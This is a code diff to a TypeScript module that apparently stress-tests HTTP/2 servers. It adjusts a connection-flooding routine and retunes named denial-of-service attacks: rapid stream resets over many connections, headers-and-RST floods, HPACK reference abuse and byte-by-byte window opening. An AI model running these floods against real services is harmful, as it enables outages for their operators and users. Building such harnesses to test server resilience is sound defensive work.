@@ -16,8 +16,6 @@ import { type Attacks, type Deeds, openSocket, type Target } from "./attack.js";
 import { readProgram } from "./calls.js";
 
 const preface = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
-/** The last stream of a connection, well below the most that there are. */
-const lastStream = 2 ** 30;
 
 /** What a connection is filled with. */
 interface Flood {
@@ -31,6 +29,8 @@ interface Flood {
   readonly streams: number;
   /** Pause after each, in milliseconds; none without. */
   readonly pauseMs?: number;
+  /** How often it is sent before the connection is closed and opened again; until the attack is over without. */
+  readonly times?: number;
 }
 
 /** The first stream that `more` may open. */
@@ -41,7 +41,7 @@ const stuckMs = 500;
 
 /** Floods connections, each of which is opened again when it is closed, told to go away, or read no more. */
 async function flood(port: number, signal: AbortSignal, connections: number, what: Flood): Promise<Deeds> {
-  const { settings = {}, begin, more, streams, pauseMs } = what;
+  const { settings = {}, begin, more, streams, pauseMs, times = Infinity } = what;
   let [cut, stuck, sentBytes] = [0, 0, 0];
   const isOver = (): boolean => signal.aborted;
   const run = async (): Promise<void> => {
@@ -55,8 +55,8 @@ async function flood(port: number, signal: AbortSignal, connections: number, wha
       if (begin !== undefined) {
         socket.write(begin);
       }
-      for (let stream = firstStream; !isOver() && !gone.signal.aborted && stream < lastStream; stream += 2 * streams) {
-        const bytes = more(stream);
+      for (let i = 0; i < times && !isOver() && !gone.signal.aborted; i++) {
+        const bytes = more(firstStream + 2 * streams * i);
         sentBytes += bytes.length;
         if (!socket.write(bytes)) {
           const limit = AbortSignal.timeout(stuckMs);
@@ -75,7 +75,7 @@ async function flood(port: number, signal: AbortSignal, connections: number, wha
     }
   };
   await Promise.all(Array.from({ length: connections }, run));
-  return { "connections cut": cut, stuck: stuck, "sent MiB": sentBytes / 1024 ** 2 };
+  return { "connections cut": cut, stuck, "sent MiB": sentBytes / 1024 ** 2 };
 }
 
 /** Reads the heads of the frames that come, until one of them is GOAWAY. */
@@ -172,7 +172,7 @@ function attack(connections: number, what: (target: Target) => Flood): Attacks[s
 export const frameAttacks: Attacks = {
   "rapid resets, one connection": attack(1, () => resets(call, 100)),
   "rapid resets, 50 connections": attack(50, () => resets(call, 100)),
-  "headers and RST without a content type": attack(20, () => ({ ...resets(untyped, 1), pauseMs: 9 })),
+  "headers and RST without a content type": attack(4, () => ({ ...resets(untyped, 50), times: 1, pauseMs: 100 })),
   "HPACK references": attack(1, references),
   "windows opened byte by byte": attack(1, ({ program }) => ({
     settings: windowOf(0),
